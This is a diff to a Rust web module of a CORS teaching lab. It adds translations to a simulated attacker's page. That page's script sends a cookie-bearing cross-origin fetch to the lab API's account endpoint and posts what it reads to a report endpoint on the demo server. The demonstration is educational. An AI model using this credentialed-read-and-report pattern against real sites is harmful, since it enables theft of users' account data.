@@ -14,15 +14,19 @@
 //! The page's script takes its parameters from its own address and checks
 //! them (tags of letters, digits, `-` and `_`; a plain host name or address)
 //! before building one URL on the lab's API port; the server writes only
-//! that port number into the page.
+//! that port number into the page. Its words follow the learner's language
+//! (`?lang=`, which the app's links carry, else `Accept-Language`:
+//! [`crate::words`]); what the browser and the API said is shown as they
+//! said it, marked `lang="en"` where it is the browser's error.
 
 use axum::extract::State;
 use axum::http::header::CONTENT_TYPE;
-use axum::http::{HeaderValue, StatusCode};
+use axum::http::{HeaderMap, HeaderValue, StatusCode, Uri};
 use axum::response::{Html, IntoResponse, Response};
 use cors_core::wire::Role;
 
 use crate::state::AppState;
+use crate::words::{fill_page, Lang};
 
 /// `GET`: the attacker's page.
 pub const ATTACKER_PATH: &str = "/api/attacker";
@@ -31,13 +35,19 @@ pub const REPORT_PATH: &str = "/api/attacker/report";
 /// The query parameter naming the API's host (the victim's lab host).
 pub const API_HOST_PARAM: &str = "api_host";
 
-const PORT_PLACEHOLDER: &str = "__API_PORT__";
+/// The texts the page's script shows (`locales/*/server.json`).
+const SCRIPT_WORDS: [&str; 4] = [
+    "attacker.bad_host",
+    "attacker.nothing",
+    "attacker.read",
+    "attacker.report_failed",
+];
 
 const PAGE: &str = r#"<!doctype html>
-<html lang="en">
+<html lang="__LANG__">
 <head>
 <meta charset="utf-8">
-<title>The attacker's page (CORS Lab)</title>
+<title>__TITLE__</title>
 <style>
   body { font-family: system-ui, sans-serif; margin: 2rem; max-width: 46rem; color: #1a1a1a; background: #fff7ed; }
   h1 { font-size: 1.4rem; }
@@ -47,21 +57,19 @@ const PAGE: &str = r#"<!doctype html>
 </head>
 <body>
 <main>
-<h1>The attacker's page</h1>
-<p>You opened a page that is not the API's. In CORS Lab the demo server plays it, at
-<code id="here"></code>. As soon as it loaded, its script sent this request, asking the
-browser to attach your cookies for the API:</p>
-<p><code id="sent" data-testid="attacker-sent">(the script has not run)</code></p>
-<h2>What the script got</h2>
-<output id="got" data-testid="attacker-got">waiting…</output>
-<h2>What it sent home to the attacker's server</h2>
-<output id="reported" data-testid="attacker-reported">waiting…</output>
-<p>Go back to the lab's tab: its server log shows what the API received, and whether your
-cookie came along.</p>
+<h1>__HEADING__</h1>
+<p>__INTRO__</p>
+<p><code id="sent" data-testid="attacker-sent">__NOT_RUN_YET__</code></p>
+<h2>__GOT_TITLE__</h2>
+<output id="got" data-testid="attacker-got">__WAITING__</output>
+<h2>__REPORTED_TITLE__</h2>
+<output id="reported" data-testid="attacker-reported">__WAITING__</output>
+<p>__BACK__</p>
 </main>
 <script>
 (async () => {
   const API_PORT = __API_PORT__;
+  const WORDS = __WORDS__;
   const params = new URLSearchParams(location.search);
   const tag = (name) => {
     const value = params.get(name) || "";
@@ -73,29 +81,44 @@ cookie came along.</p>
   for (const name of ["learner", "case"]) {
     if (tag(name)) query.set(name, tag(name));
   }
-  const show = (id, text) => { document.getElementById(id).textContent = text; };
+  const fill = (words, args) =>
+    Object.entries(args).reduce((text, [name, value]) => text.split("{{ " + name + " }}").join(value), words);
+  // `data`: what the browser or a server said, as it said it (a browser's
+  // error is in English), not the page's words.
+  const show = (id, text, data) => {
+    const element = document.getElementById(id);
+    element.textContent = text;
+    if (data) {
+      element.setAttribute("lang", "en");
+      element.setAttribute("translate", "no");
+    }
+  };
   show("here", location.origin);
   if (!hostOk) {
-    show("got", "not run: api_host is not a host name");
-    show("reported", "nothing");
+    show("got", WORDS["attacker.bad_host"]);
+    show("reported", WORDS["attacker.nothing"]);
     document.body.dataset.done = "true";
     return;
   }
   const url = "http://" + apiHost + ":" + API_PORT + "/account?" + query;
   show("sent", 'fetch("' + url + '", { credentials: "include" })');
+  // What is sent home: the attacker's own report, the same in every
+  // language (the lab's card reads it).
   let got;
   try {
     const response = await fetch(url, { credentials: "include" });
-    got = "read it: status " + response.status + ", " + (await response.text());
+    const body = await response.text();
+    got = "read it: status " + response.status + ", " + body;
+    show("got", fill(WORDS["attacker.read"], { status: response.status, body }));
   } catch (error) {
     got = String(error);
+    show("got", got, true);
   }
-  show("got", got);
   try {
     await fetch("/api/attacker/report?" + query, { method: "POST", body: got });
-    show("reported", got);
+    show("reported", got, true);
   } catch (error) {
-    show("reported", "the report failed: " + String(error));
+    show("reported", fill(WORDS["attacker.report_failed"], { error: String(error) }));
   }
   document.body.dataset.done = "true";
 })();
@@ -104,14 +127,45 @@ cookie came along.</p>
 </html>
 "#;
 
-/// `GET /api/attacker`: the page, with the API origin's port written in.
-pub(crate) async fn attacker_page(State(state): State<AppState>) -> Response {
-    let page = PAGE.replace(PORT_PLACEHOLDER, &state.port(Role::Api).to_string());
-    let mut response = Html(page).into_response();
+/// The page in `lang`, with the API origin's port written in.
+pub(crate) fn page(lang: Lang, api_port: u16) -> String {
+    fill_page(
+        PAGE,
+        &[
+            ("__LANG__", lang.tag()),
+            ("__TITLE__", &lang.html("attacker.title", &[])),
+            ("__HEADING__", &lang.html("attacker.heading", &[])),
+            (
+                "__INTRO__",
+                &lang.html("attacker.intro", &[("here", r#"<code id="here"></code>"#)]),
+            ),
+            ("__NOT_RUN_YET__", &lang.html("attacker.not_run_yet", &[])),
+            ("__GOT_TITLE__", &lang.html("attacker.got_title", &[])),
+            (
+                "__REPORTED_TITLE__",
+                &lang.html("attacker.reported_title", &[]),
+            ),
+            ("__WAITING__", &lang.html("attacker.waiting", &[])),
+            ("__BACK__", &lang.html("attacker.back", &[])),
+            ("__API_PORT__", &api_port.to_string()),
+            ("__WORDS__", &lang.script_words(&SCRIPT_WORDS)),
+        ],
+    )
+}
+
+/// `GET /api/attacker`: the page in the learner's language.
+pub(crate) async fn attacker_page(
+    State(state): State<AppState>,
+    uri: Uri,
+    headers: HeaderMap,
+) -> Response {
+    let lang = Lang::of_request(uri.query(), &headers);
+    let mut response = Html(page(lang, state.port(Role::Api))).into_response();
     response.headers_mut().insert(
         CONTENT_TYPE,
         HeaderValue::from_static("text/html; charset=utf-8"),
     );
+    lang.mark(response.headers_mut());
     response
 }
 
